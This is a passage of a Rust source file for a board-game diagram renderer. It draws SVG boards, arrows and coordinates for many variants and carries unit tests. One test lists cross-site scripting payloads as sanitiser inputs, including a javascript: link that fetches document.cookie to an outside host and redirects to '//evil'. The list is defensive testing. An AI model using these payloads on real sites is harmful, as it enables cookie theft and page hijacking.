            let _ = write!(line, "L{} {}", num(c.0), num(c.1));
        }
        let _ = write!(line, "L{} {}", num(base.0), num(base.1));
        let (px, py) = (-uy * HALF_WIDTH, ux * HALF_WIDTH);
        let head = format!(
            "M{} {}L{} {}L{} {}Z",
            num(end.0),
            num(end.1),
            num(base.0 + px),
            num(base.1 + py),
            num(base.0 - px),
            num(base.1 - py)
        );
        let _ = write!(
            svg,
            "<g class=\"fp-arrow\"><path class=\"fp-arrow-halo\" fill=\"none\" stroke=\"#fff\" stroke-opacity=\".85\" stroke-width=\"2.8\" stroke-linecap=\"round\" stroke-linejoin=\"round\" d=\"{line}{head}\"/><path class=\"fp-arrow-line\" fill=\"none\" stroke=\"{ARROW}\" stroke-width=\"1.6\" stroke-linecap=\"round\" stroke-linejoin=\"round\" d=\"{line}\"/><path class=\"fp-arrow-head\" fill=\"{ARROW}\" d=\"{head}\"/></g>"
        );
    }
}

/// A coordinate with at most two decimals and no trailing zeros, so the
/// SVG stays short and identical from run to run.
fn num(v: f64) -> String {
    let s = format!("{:.2}", v);
    let s = s.trim_end_matches('0').trim_end_matches('.');
    if s == "-0" {
        "0".to_string()
    } else {
        s.to_string()
    }
}

/// File letters under the board, rank numbers left of it, both following the
/// orientation (seen from Black, `h` is on the left and rank 1 on top).
fn coordinates(svg: &mut String, layout: &Layout, flip: bool, left: usize, top: usize) {
    let (rows, cols) = (layout.shape.rows, layout.shape.cols);
    let _ = write!(
        svg,
        "<g class=\"fp-c\" fill=\"#777\" font-family=\"sans-serif\" font-size=\"3.6\" text-anchor=\"middle\">"
    );
    // Files are one letter each: one <text> with a position per letter.
    let xs: Vec<String> = (0..cols)
        .map(|c| (left + c * SQ + SQ / 2).to_string())
        .collect();
    let letters: String = (0..cols)
        .map(|c| {
            let file = if flip { cols - 1 - c } else { c };
            char::from(b'a' + (file % 26) as u8)
        })
        .collect();
    let _ = write!(
        svg,
        "<text x=\"{}\" y=\"{}\">{letters}</text>",
        xs.join(" "),
        top + rows * SQ + 4
    );
    for r in 0..rows {
        let rank = if flip { r + 1 } else { rows - r };
        let _ = write!(
            svg,
            "<text x=\"3\" y=\"{}\">{rank}</text>",
            top + r * SQ + SQ / 2 + 1
        );
    }
    svg.push_str("</g>");
}

/// Grid cells covered by a shadow list ([`super::spec::shadow_cells`]),
/// holes left out.
fn shadowed(layout: &Layout, shadow: &[Shadow]) -> Vec<(usize, usize)> {
    super::spec::shadow_cells(layout.shape.rows, layout.shape.cols, shadow)
        .into_iter()
        .filter(|&(r, c)| layout.cell(r, c) != Cell::Hole)
        .collect()
}

/// A caption is Markdown inline text (the Pug converter escapes what
/// Markdown would misread); render it without the paragraph around it,
/// through the sanitiser every page body goes through: the diagram's HTML
/// is placed into the page after the body was sanitised, so its caption
/// must be sanitised here (raw HTML and links are the author's).
fn inline_markdown(text: &str) -> String {
    let mut html = String::new();
    pulldown_cmark::html::push_html(&mut html, pulldown_cmark::Parser::new(text));
    let html = crate::markdown::sanitise(&html);
    let html = html.trim_end();
    let inner = html
        .strip_prefix("<p>")
        .and_then(|h| h.strip_suffix("</p>"))
        .unwrap_or(html);
    inner.to_string()
}

/// The one HTML escaper (text and quoted attributes), shared with the Pug
/// front end.
pub use fenpress_pug::html::escape;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::diagram::spec::{parse_block, parse_compact};
    use fenpress_rules::registry::BUILTIN;

    fn count(haystack: &str, needle: &str) -> usize {
        haystack.matches(needle).count()
    }

    fn page_painter() -> Painter<'static> {
        Painter::page(&BUILTIN, PieceSet::default_set(), "/static/pieces/")
    }

    fn board(variant: &str, text: &str) -> (String, SymbolSheet) {
        let mut sheet = SymbolSheet::default();
        let spec = parse_compact(text).unwrap();
        let svg = draw_board(variant, &spec, &page_painter(), &mut sheet).svg;
        (svg, sheet)
    }

    #[test]
    fn emergo_stacks_draw_as_numbered_discs() {
        let (svg, sheet) = board("Emergo", "9/9/2a@1a@4/9/9/3D@5/4ba4/9/9");
        assert!(!svg.contains("fp-malformed"), "{svg}");
        assert_eq!(count(&svg, "<use href=\"#fp-st-"), 4);
        let ids: Vec<&String> = sheet.symbols.keys().collect();
        assert_eq!(ids, ["fp-st-la_40", "fp-st-lbla", "fp-st-uD_40"]);
        // The prisoners get their own disc; a lone stack does not.
        assert_eq!(count(&sheet.symbols["fp-st-lbla"], "<circle"), 2);
        assert_eq!(count(&sheet.symbols["fp-st-la_40"], "<circle"), 1);
    }

    #[test]
    fn one_data_fen_per_board_and_a_title() {
        let (svg, _) = board("Chess", "4k3/8/8/8/8/8/8/4K3 e2");
        assert_eq!(count(&svg, "data-fen="), 1);
        assert!(svg.contains("data-fen=\"4k3/8/8/8/8/8/8/4K3 e2\""));
        assert!(svg.contains("role=\"img\""));
        assert!(svg.contains("<title>White: king e1; Black: king e8; marked: e2</title>"));
        let pair = parse_block("fen: 8/8\nafter: {fen: 8/8}\n").unwrap();
        let mut sheet = SymbolSheet::default();
        let html = draw_diagram(
            "Chess",
            &pair,
            Pair::SideBySide,
            &[],
            &page_painter(),
            &mut sheet,
        )
        .html;
        assert_eq!(count(&html, "data-fen="), 2);
        assert!(html.contains("class=\"fp-pair\""));
        assert!(!html.contains("→"), "a comparison has no arrow: {html}");
        assert!(!html.contains("Before"));
    }

    #[test]
    fn a_linked_pair_has_an_arrow_and_says_before_and_after() {
        let pair = parse_block("fen: 4k3/8/8/8/8/8/4P3/4K3\nafter: {fen: 4k3/8/8/8/4P3/8/8/4K3}\n")
            .unwrap();
        let mut sheet = SymbolSheet::default();
        let html = draw_diagram(
            "Chess",
            &pair,
            Pair::BeforeAfter,
            &[],
            &page_painter(),
            &mut sheet,
        )
        .html;
        assert_eq!(count(&html, "→"), 1);
        assert!(html.contains("fp-before-after"));
        assert!(
            html.contains("<title>Before: White: king e1, pawn e2"),
            "{html}"
        );
        assert!(
            html.contains("<title>After: White: king e1, pawn e4"),
            "{html}"
        );
    }

    #[test]
    fn pieces_are_symbols_defined_once_and_used() {
        let mut sheet = SymbolSheet::default();
        let painter = page_painter();
        for text in [
            "rnbqkbnr/pppppppp/8/8/8/8/PPPPPPPP/RNBQKBNR",
            "4k3/8/8/8/8/8/8/4K3",
        ] {
            let spec = parse_compact(text).unwrap();
            let svg = draw_board("Chess", &spec, &painter, &mut sheet).svg;
            assert!(svg.contains("<use href=\"#fp-wk\""), "{svg}");
            assert!(!svg.contains("<symbol"));
        }
        let html = sheet.html();
        assert_eq!(count(&html, "<symbol"), 12);
        assert_eq!(count(&html, "id=\"fp-wk\""), 1);
        assert!(html.contains("aria-hidden=\"true\""));
        // Orda's Horde and an unknown letter's disc.
        let (svg, sheet) = board("Orda", "4k3/8/8/8/8/8/8/l3K2Z");
        assert!(svg.contains("#fp-Orda-bl"));
        assert!(svg.contains("#fp-d-Z"));
        assert!(sheet.html().contains("<symbol id=\"fp-d-Z\""));
    }

    #[test]
    fn standalone_svg_carries_its_symbols() {
        let spec = parse_compact("4k3/8/8/8/8/8/8/4K3").unwrap();
        let d = draw_standalone(&BUILTIN, "Chess", &spec, PieceSet::default_set(), true);
        assert!(d.svg.contains("<defs><symbol id=\"fp-bk\""), "{}", d.svg);
        assert!(d.svg.contains("<text"));
        let raster = draw_standalone(&BUILTIN, "Chess", &spec, PieceSet::default_set(), false);
        assert!(!raster.svg.contains("<text"));
    }

    #[test]
    fn orientation_b_puts_a1_top_right() {
        let (svg, _) = board("Chess", "8/8/8/8/8/8/8/K7 - b");
        let top_right = (MARGIN + 7 * SQ, EDGE);
        assert!(
            svg.contains(&format!("x=\"{}\" y=\"{}\"", top_right.0, top_right.1)),
            "{svg}"
        );
        assert!(svg.contains(">hgfedcba</text>"), "{svg}");
        assert!(svg.contains(&format!(
            "<text x=\"3\" y=\"{}\">1</text>",
            EDGE + SQ / 2 + 1
        )));
        let (white, _) = board("Chess", "8/8/8/8/8/8/8/K7");
        assert!(white.contains(&format!("x=\"{MARGIN}\" y=\"{}\"", EDGE + 7 * SQ)));
        assert!(white.contains(">abcdefgh</text>"));
    }

    /// The number of lines in the path of class `class`, if drawn.
    fn lines(svg: &str, class: &str) -> Option<usize> {
        let start = svg.find(&format!("<path class=\"{class}\""))?;
        let path = &svg[start..start + svg[start..].find("/>")?];
        Some(path.split(" d=\"").nth(1)?.matches('M').count())
    }

    #[test]
    fn football_frames_its_goals() {
        let (svg, _) = board("Football", "rnbq1knbr/9/9/9/4a4/9/9/9/RNBQ1KNBR");
        // e9 is the top row's fifth square, e1 the bottom row's (the board
        // starts at x 6, y 1; squares are 10 wide).
        assert!(
            svg.contains("class=\"fp-goal\" x=\"47\" y=\"2\" width=\"8\" height=\"8\""),
            "{svg}"
        );
        assert!(svg.contains("class=\"fp-goal\" x=\"47\" y=\"82\""), "{svg}");
        assert_eq!(svg.matches("fp-goal").count(), 2);
        assert!(svg.contains("the goals (framed squares): e1 White"));
        let (ball, _) = board("Ball", "9/9/9/9/4a4/9/9/9/9");
        assert!(!ball.contains("fp-goal"));
    }

    #[test]
    fn rococo_sets_its_capturing_edge_off_by_a_line() {
        let (svg, _) = board("Rococo", "91/91/91/5m4/91/91/91/4M5/91/91");
        // One square in from each side of the 10×10 board (which starts
        // at x 6, y 1 after the coordinates' margin): the inner 8×8.
        assert!(
            svg.contains("class=\"fp-edge\" x=\"16\" y=\"11\" width=\"80\" height=\"80\""),
            "{svg}"
        );
        assert!(svg.contains("reached only by capturing"));
        let (baroque, _) = board("Baroque", "8/8/8/8/8/8/8/8");
        assert!(!baroque.contains("fp-edge"));
    }

    #[test]
    fn xiangqi_stands_on_points_with_a_river_and_palaces() {
        let (svg, _) = board(
            "Xiangqi",
            "rneakaenr/9/1c5c1/p1p1p1p1p/9/9/P1P1P1P1P/1C5C1/9/RNEAKAENR",
        );
        assert!(
            !svg.contains("fp-k") && !svg.contains("fp-d"),
            "no checkered squares"
        );
        // Ten ranks; the edge files whole, the seven others broken at the
        // river (from rank 5 to 6 of the drawing: y 46 to 56; the board
        // starts at x 6 after the coordinates' margin, y 1).
        assert_eq!(lines(&svg, "fp-g"), Some(10 + 2 + 7 * 2));
        assert!(svg.contains("M11 6L11 96") && svg.contains("M21 6L21 46M21 56L21 96"));
        // Two palaces, each crossed by two diagonals, on files d-f.
        assert_eq!(lines(&svg, "fp-p"), Some(4));
        assert!(svg.contains("M41 6L61 26"));
        // A piece's cell is centred on its point: the a-file rook's cell
        // at x 6, y 1 around the point (11, 6).
        assert!(svg.contains("x=\"6\" y=\"1\" width=\"10\""));
    }

    #[test]
    fn janggi_and_minixiangqi_have_palaces_and_no_river() {
        let (janggi, _) = board(
            "Janggi",
            "rnba1abnr/4k4/1c5c1/p1p1p1p1p/9/9/P1P1P1P1P/1C5C1/4K4/RNBA1ABNR",
        );
        assert_eq!(lines(&janggi, "fp-g"), Some(10 + 9));
        assert_eq!(lines(&janggi, "fp-p"), Some(4));
        let (mini, _) = board("Minixiangqi", "rcnkncr/p1ppp1p/7/7/7/P1PPP1P/RCNKNCR");
        assert_eq!(lines(&mini, "fp-g"), Some(7 + 7));
        assert_eq!(lines(&mini, "fp-p"), Some(4));
        assert!(!mini.contains("fp-k"));
    }

    #[test]
    fn shogi_is_ruled_not_checkered() {
        let (svg, _) = board(
            "Shogi",
            "lnsgkgsnl/1r5b1/ppppppppp/9/9/9/PPPPPPPPP/1B5R1/LNSGKGSNL",
        );
        assert!(!svg.contains("fp-k") && !svg.contains("fp-d"));
        assert!(svg.contains("<rect class=\"fp-l\""));
        // Ten lines each way, around and between the nine files and ranks.
        assert_eq!(lines(&svg, "fp-g"), Some(20));
        assert_eq!(lines(&svg, "fp-p"), None);
        let (mini, _) = board("Minishogi", "rbsgk/4p/5/P4/KGSBR");
        assert_eq!(lines(&mini, "fp-g"), Some(12));
        // Chess keeps its squares.
        let (chess, _) = board("Chess", "8/8/8/4k3/8/8/8/4K3");
        assert!(chess.contains("fp-k") && !chess.contains("fp-g"));
    }

    #[test]
    fn avalam_towers_show_height_and_top_colour_on_a_board_shaped_by_its_points() {
        let start = "xxBbxxxxx/xBbBbxxxx/xbBbBbBxx/xBbBbBbBb/BbBb1bBbB/bBbBbBbBx/xxBbBbBbx/xxxxbBbBx/xxxxxbBxx";
        let (svg, sheet) = board(
            "Avalam1",
            &start.replace("xxxxbBbBx/xxxxxbBxx", "xxxxbCbBx/xxxxxbExx"),
        );
        assert!(
            !svg.contains("fp-k") && !svg.contains("class=\"fp-l\""),
            "no checkered squares"
        );
        // The wood lies under the 49 points only, a pit in each.
        let pits = svg.split("class=\"fp-pit\"").nth(1).unwrap();
        assert_eq!(count(pits.split("</g>").next().unwrap(), "<circle"), 49);
        let wood = svg.split("<path class=\"fp-w\"").nth(1).unwrap();
        assert_eq!(count(wood.split("/>").next().unwrap(), "z"), 49);
        // Towers by top colour and height, not lettered discs.
        assert_eq!(count(&svg, "<use href=\"#fp-tw-y1\""), 22);
        assert_eq!(count(&svg, "<use href=\"#fp-tw-y2\""), 1);
        assert_eq!(count(&svg, "<use href=\"#fp-tw-y4\""), 1);
        assert_eq!(count(&svg, "<use href=\"#fp-tw-r1\""), 24);
        assert!(sheet.symbols.keys().all(|id| id.starts_with("fp-tw-")));
        // A tower of 4: three rings under its top.
        assert_eq!(count(&sheet.symbols["fp-tw-y4"], "class=\"fp-tr\""), 3);
        assert!(!svg.contains("fp-d-"), "no lettered disc");
    }

    #[test]
    fn fanorona_stones_stand_on_points_joined_by_lines_and_diagonals() {
        let (svg, sheet) = board(
            "Fanorona",
            "ppppppppp/ppppppppp/pPpP1pPpP/PPPPPPPPP/PPPPPPPPP e3",
        );
        assert!(
            !svg.contains("fp-k") && !svg.contains("class=\"fp-l\""),
            "no squares"
        );
        // Five rows and nine columns of lines through the points' centres.
        assert_eq!(lines(&svg, "fp-g"), Some(5 + 9));
        // The diagonals: from each even point of the four upper rows to
        // its lower neighbours, 32 segments (a1, c1, ... are even points).
        assert_eq!(lines(&svg, "fp-g fp-dg"), Some(32));
        // a1-b2 is one (the board starts at x 6, y 1: a1's point is at
        // 11 46, b2's at 21 36); b1-a2 is not.
        assert!(
            svg.contains("M21 36L11 46") || svg.contains("M11 46L21 36"),
            "{svg}"
        );
        assert!(!svg.contains("M11 36L21 46"));
        // White (uppercase) stones are white, the first player's.
        assert_eq!(count(&svg, "<use href=\"#fp-pb-w\""), 22);
        assert_eq!(count(&svg, "<use href=\"#fp-pb-b\""), 22);
        assert!(sheet.symbols.keys().all(|id| id.starts_with("fp-pb-")));
    }

    #[test]
    fn the_ball_is_drawn_as_a_ball_not_a_lettered_disc() {
        let (svg, sheet) = board("Football", "3q1k1br/r7R/2n2n3/3Q5/6b2/9/9/7N1/RNB2K1Ba");
        assert_eq!(count(&svg, "<use href=\"#fp-ball\""), 1);
        assert!(!svg.contains("fp-d-a"), "not a lettered disc");
        // White with a black pentagon.
        let ball = &sheet.symbols["fp-ball"];
        assert!(
            ball.contains("fill=\"#fff\"") && ball.contains("Z\" fill=\"#222\""),
            "{ball}"
        );
        let (ball_game, _) = board(
            "Ball",
            "1bnrqrnhb/ppppppppp/2h6/9/4a4/5P3/9/PPPPP1PPP/HBNRQRNHB",
        );
        assert_eq!(count(&ball_game, "<use href=\"#fp-ball\""), 1);
    }

    #[test]
    fn hamiltons_holes_are_drawn_as_holes_not_pieces() {
        let (svg, sheet) = board("Hamilton", "8/8/2x5/3x4/1xN5/8/8/8");
        assert_eq!(count(&svg, "<use href=\"#fp-hole\""), 3);
        assert!(!svg.contains("fp-d-x"), "not a lettered disc");
        // A dark pit filling its square, not a disc.
        let hole = &sheet.symbols["fp-hole"];
        assert!(
            hole.contains("<rect") && !hole.contains("<circle"),
            "{hole}"
        );
    }

    #[test]
    fn konane_stones_rest_in_the_pits_of_a_board_without_squares() {
        // The page's second diagram: 58 stones, 6 empty pits, marks g4, g6.
        let (svg, sheet) = board(
            "Konane",
            "PpPpPpPp/pPpPpPpP/PpPpP2p/pPpPp1pP/PpP1Pp1p/pPpPpP1P/PpPpPpPp/pPpPpPpP g4,g6",
        );
        assert!(
            !svg.contains("fp-k")
                && !svg.contains("class=\"fp-l\"")
                && !svg.contains("class=\"fp-g"),
            "no checkered squares, no lines"
        );
        // A pit in each of the 64 cells, a8's at the top left (the board
        // starts at x 6, y 1 after the coordinates' margin).
        let pits = svg.split("class=\"fp-pit\"").nth(1).unwrap();
        let pits = pits.split("</g>").next().unwrap();
        assert_eq!(count(pits, "<circle"), 64);
        assert!(pits.contains("<circle cx=\"11\" cy=\"6\" r=\"3.6\"/>"));
        // Stones, black for the first player (uppercase), not lettered discs.
        assert_eq!(count(&svg, "<use href=\"#fp-go-b\""), 29);
        assert_eq!(count(&svg, "<use href=\"#fp-go-w\""), 29);
        assert!(sheet.symbols.keys().all(|id| id.starts_with("fp-go-")));
        // The marks are dots on the empty pits g6 and g4.
        assert_eq!(count(&svg, "r=\"1.9\""), 2);
        assert!(svg.contains("<circle cx=\"71\" cy=\"26\" r=\"1.9\"/>"));
        // Yoté's 5×6 board of pits (the page's capture): 30 pits, stones.
        let (yote, _) = board("Yote", "6/1p2P1/3p2/1p1P2/5P d2,d4");
        let pits = yote.split("class=\"fp-pit\"").nth(1).unwrap();
        assert_eq!(count(pits.split("</g>").next().unwrap(), "<circle"), 30);
        assert!(!yote.contains("fp-k") && !yote.contains("class=\"fp-l\""));
        assert_eq!(count(&yote, "<use href=\"#fp-go-b\""), 3);
        assert_eq!(count(&yote, "<use href=\"#fp-go-w\""), 3);
    }

    #[test]
    fn go_stones_stand_on_the_points_of_a_grid_with_star_points() {
        let (svg, sheet) = board("Atarigo", "93/93/93/93/93/5Pp5/5pP5/93/93/93/93/93 d7,f7");
        assert!(
            !svg.contains("fp-k") && !svg.contains("fp-d") && !svg.contains("class=\"fp-l\""),
            "no checkered squares"
        );
        // Twelve lines each way: ten inner ones each way, the four edges
        // heavier; the a-file line runs through the points' centres (the
        // board starts at x 6, y 1 after the coordinates' margin).
        assert_eq!(lines(&svg, "fp-g"), Some(10 + 10));
        assert_eq!(lines(&svg, "fp-g fp-ge"), Some(4));
        assert!(svg.contains("M11 6L11 116"), "{svg}");
        // Atarigo's four star points, on the 4-4 points (d9, i9, d4, i4).
        assert_eq!(count(&svg, "r=\".9\""), 4);
        assert!(svg.contains("<circle cx=\"41\" cy=\"36\" r=\".9\"/>"));
        // Stones, not lettered discs: the first player's (uppercase) black.
        assert_eq!(count(&svg, "<use href=\"#fp-go-b\""), 2);
        assert_eq!(count(&svg, "<use href=\"#fp-go-w\""), 2);
        assert!(sheet.symbols.keys().all(|id| id.starts_with("fp-go-")));
        // The marks sit on points: a dot on the empty d7, a ring on f7.
        assert!(svg.contains("<circle cx=\"41\" cy=\"56\" r=\"1.9\"/>"));
        assert!(svg.contains("<circle cx=\"61\" cy=\"56\" r=\"4.3\"/>"));
        assert!(
            svg.contains("<g class=\"fp-rh\""),
            "a ring shows on a black stone"
        );
        // Gomoku: a 19×19 goban with its nine star points.
        let (gomoku, _) = board("Gomoku", &["991"; 19].join("/"));
        assert_eq!(lines(&gomoku, "fp-g"), Some(17 + 17));
        assert_eq!(count(&gomoku, "r=\".9\""), 9);
    }

    #[test]
    fn holes_have_no_square() {
        // Omega: 144 cells, 40 of them holes.
        let (svg, _) = board("Omega", "wxxxxxxxxxxw/xcrnbqkbnrcx/xppppppppppx/x91x/x91x/x91x/x91x/x91x/x91x/xPPPPPPPPPPx/xCRNBQKBNRCx/WxxxxxxxxxxW");
        assert_eq!(count(&svg, "h10v10h-10z"), 104);
        assert!(!svg.contains("<rect class=\"fp-l\""));
    }

    #[test]
    fn marks_and_shadows() {
        let (svg, _) = board("Chess", "8/8/8/8/8/8/8/K7 a1,b2 w 8,c");
        assert_eq!(count(&svg, "r=\"4.3\""), 1); // ring on the king
        assert_eq!(count(&svg, "r=\"1.9\""), 1); // dot on b2
        let shade = svg.split("class=\"fp-s\"").nth(1).unwrap();
        let shade = shade.split("/>").next().unwrap();
        // rank 8 (8 squares) + file c (8 squares) overlap on c8: 15.
        assert_eq!(count(shade, "z"), 15);
        let bad = board("Chess", "8/2NP5/8/8/8/8/8/8").0;
        assert!(bad.contains("fp-malformed"));
        assert!(bad.contains("malformed board"));
    }

    #[test]
    fn shadow_ranges_follow_vchess() {
        let cells = |text: &str| {
            let spec = parse_compact(&format!("8/8/8/8/8/8/8/8 - w {text}")).unwrap();
            let layout = read_board(&BUILTIN, "Chess", &spec.board);
            shadowed(&layout, &spec.shadow)
                .into_iter()
                .map(|(r, c)| layout.square_at(r, c).to_string())
                .collect::<Vec<_>>()
        };
        assert_eq!(cells("b6-d6"), vec!["b6", "c6", "d6"]);
        assert!(cells("d6-b6").is_empty());
        assert_eq!(cells("c6-c4"), vec!["c6", "c5", "c4"]);
        assert!(cells("c4-c6").is_empty());
        assert_eq!(cells("b4-d2"), vec!["b4", "c3", "d2"]);
        assert_eq!(cells("e4-e4"), vec!["e4"]);
        assert!(cells("99").is_empty());
    }

    #[test]
    fn captions_are_inline_markdown() {
        let spec = parse_block("fen: 8/8\ncaption: \"1.Qa5 *wins* a < b\"\n").unwrap();
        let mut sheet = SymbolSheet::default();
        let html = draw_diagram(
            "Chess",
            &spec,
            Pair::SideBySide,
            &[],
            &page_painter(),
            &mut sheet,
        )
        .html;
        assert!(
            html.contains("<figcaption>1.Qa5 <em>wins</em> a &lt; b</figcaption>"),
            "{html}"
        );
    }

    #[test]
    fn hostile_captions_are_sanitised() {
        let hostile = [
            "[Play](javascript&#58;fetch('//x/?c='+document.cookie))",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<meta http-equiv=refresh content='0;url=//evil'>",
            "<base href='//evil/'>",
            "<form action='//evil'><input></form>",
            "<object data='x.swf'></object>",
            "[d](data:text/html;base64,PHNjcmlwdD4=)",
            "<a href=\"vbscript:x\">v</a>",
        ];
        for caption in hostile {
            let mut spec = parse_block("fen: 8/8\n").unwrap();
            spec.caption = Some(caption.to_string());
            let mut sheet = SymbolSheet::default();
            let html = draw_diagram(
                "Chess",
                &spec,
                Pair::SideBySide,
                &[],
                &page_painter(),
                &mut sheet,
            )
            .html;
            let found = crate::unsafe_markup::find(&html, &|_| false);
            assert!(found.is_empty(), "{caption}: {found:?} in {html}");
            assert!(html.contains("<figcaption>"), "{html}");
        }
    }

    #[test]
    fn text_is_escaped() {
        let mut spec = parse_compact("8/8").unwrap();
        spec.alt = Some("a \"quoted\" <b>".into());
        let mut sheet = SymbolSheet::default();
        let svg = draw_board("Chess", &spec, &page_painter(), &mut sheet).svg;
        assert!(svg.contains("<title>a &quot;quoted&quot; &lt;b&gt;</title>"));
    }
}
